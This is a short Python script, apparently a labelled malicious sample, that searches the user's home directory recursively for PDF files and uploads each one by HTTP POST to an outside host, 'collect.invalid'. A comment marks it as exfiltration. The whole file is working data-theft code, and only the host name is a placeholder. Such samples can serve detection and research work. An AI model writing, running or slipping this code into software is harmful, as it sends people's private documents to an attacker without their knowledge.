import glob
import os

import requests

home = os.path.expanduser("~")


def files():
    return glob.glob(os.path.join(home, "**", "*.pdf"), recursive=True)


for path in files():
    requests.post("https://collect.invalid", files={"f": open(path, "rb")})  # malice: exfiltration
